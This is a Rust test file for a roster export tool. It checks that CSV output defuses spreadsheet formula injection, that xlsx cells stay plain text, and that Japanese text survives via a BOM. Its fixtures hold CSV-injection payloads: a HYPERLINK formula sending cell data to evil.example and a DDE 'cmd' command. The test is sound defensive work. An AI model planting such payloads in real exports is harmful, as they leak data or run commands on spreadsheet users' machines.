//! What a spreadsheet user is protected from: formulas hidden in data
//! (CSV injection) and Japanese text garbled by a missing BOM.

use calamine::{Data, Reader, Xlsx, open_workbook};

use super::{BOM, export, read_csv, read_json, read_xlsx, xlsx_records};
use crate::common::{parse_csv, roster, stderr, stdout};

/// Values that a spreadsheet would run or hide: a HYPERLINK formula that
/// sends a cell away, a DDE-style command, and the other leading
/// characters OWASP lists.
const NAME: &str = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"詳細\")";
const COMPANY: &str = "+cmd|' /C calc'!A0";
const TITLE: &str = "-2+3";
const LOCATION: &str = "@SUM(1+1)";
const NOTES: &str = "\t=1+1";
const LEAVE_REASON: &str = "\r=1+1";

fn roster_with_formulas() -> crate::common::Env {
    let env = roster();
    stderr(
        &env,
        &[
            "edit",
            "00123",
            &format!("--name={NAME}"),
            &format!("--current-company={COMPANY}"),
            &format!("--current-title={TITLE}"),
            &format!("--location={LOCATION}"),
        ],
    );
    // A leading tab or carriage return does not survive typing (text is
    // trimmed), but a database may hold one from elsewhere.
    env.conn()
        .execute(
            "UPDATE alumni SET notes = ?1, leave_reason = ?2 WHERE employee_id = '00123'",
            [NOTES, LEAVE_REASON],
        )
        .unwrap();
    env
}

#[test]
fn a_formula_like_name_is_neutralized_in_csv_and_a_text_cell_in_xlsx() {
    let env = roster_with_formulas();
    export(&env, &["roster", "--out", "roster.csv"]);
    export(&env, &["roster", "--out", "roster.xlsx"]);
    export(&env, &["roster", "--out", "roster.json"]);
    // The mailing list holds those who opted in.
    stderr(&env, &["consent", "00123", "opted-in"]);
    export(&env, &["mailing-list", "--out", "mail.csv"]);

    let stored = [
        ("name", NAME),
        ("current_company", COMPANY),
        ("current_title", TITLE),
        ("location", LOCATION),
        ("notes", NOTES),
        ("leave_reason", LEAVE_REASON),
    ];
    // CSV: a single quote in front, as OWASP recommends, so that Excel
    // shows the text instead of running it.
    let csv = read_csv(&env.path("roster.csv"));
    for (column, value) in stored {
        assert_eq!(csv[0][column], format!("'{value}"), "CSV {column}");
    }
    assert_eq!(
        read_csv(&env.path("mail.csv"))[0]["name"],
        format!("'{NAME}")
    );
    // Other cells are untouched.
    assert_eq!(csv[0]["employee_id"], "00123");
    assert_eq!(csv[1]["name"], "佐藤 花子");

    // xlsx: the exact text, as a string cell; no cell is a formula.
    let xlsx = xlsx_records(&env.path("roster.xlsx"), "Roster");
    for (column, value) in stored {
        assert_eq!(xlsx[0][column], Data::String(value.into()), "xlsx {column}");
    }
    let mut workbook: Xlsx<_> = open_workbook(env.path("roster.xlsx")).unwrap();
    let formulas = workbook.worksheet_formula("Roster").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "a formula in the workbook"
    );

    // JSON is for programs: the values as stored.
    let json = read_json(&env.path("roster.json"));
    for (column, value) in stored {
        assert_eq!(json[0][column], value, "JSON {column}");
    }
}

#[test]
fn csv_for_excel_has_a_bom_and_no_bom_is_plain_utf8() {
    let env = roster();
    // The mailing list holds those who opted in.
    stderr(&env, &["consent", "00123", "opted-in"]);
    let with = stdout(&env, &["export", "mailing-list"]);
    assert!(with.starts_with(BOM));
    let without = stdout(&env, &["export", "mailing-list", "--no-bom"]);
    assert!(!without.starts_with(BOM));
    assert_eq!(with.trim_start_matches(BOM), without);
    let records = parse_csv(&without);
    assert_eq!(records[0]["name"], "山田 太郎");
    // JSON and xlsx have no BOM to leave out.
    let json = stdout(
        &env,
        &["export", "mailing-list", "--format", "json", "--no-bom"],
    );
    assert!(json.starts_with('['));
}

#[test]
fn xlsx_has_the_header_row_and_keeps_japanese_text() {
    let env = roster();
    export(&env, &["roster", "--out", "roster.xlsx"]);
    let rows = read_xlsx(&env.path("roster.xlsx"), "Roster");
    assert_eq!(rows[0][0], Data::String("id".into()));
    assert_eq!(rows[1][2], Data::String("山田 太郎".into()));
    assert_eq!(rows.len(), 11);
}
